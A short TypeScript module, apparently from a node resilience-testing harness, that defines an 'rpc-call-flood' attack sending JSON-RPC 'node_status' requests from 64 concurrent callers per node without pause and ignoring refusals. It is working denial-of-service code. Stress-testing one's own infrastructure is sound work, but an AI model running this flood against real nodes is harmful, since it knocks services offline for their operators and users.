import { type Attack, sentByAll, type Target } from '../attack.ts';

const CALLERS = 64;
const BODY = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'node_status', params: {} });

/** Calls without a pause. A refusal or a closed connection is what the attack is after, so neither ends it. */
const call = async (target: Target, signal: AbortSignal): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    sent += BODY.length;
    await fetch(target.rpc, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: BODY,
      signal,
    })
      .then((answer) => answer.arrayBuffer())
      .catch(() => new Promise((resolve) => setTimeout(resolve, 10)));
  }
  return sent;
};

export const attack: Attack = {
  name: 'rpc-call-flood',
  what: `${CALLERS} callers call each node without a pause.`,
  run: async ({ targets }, signal) => {
    const callers = targets.flatMap((target) => Array.from({ length: CALLERS }, () => call(target, signal)));
    return sentByAll(callers);
  },
};
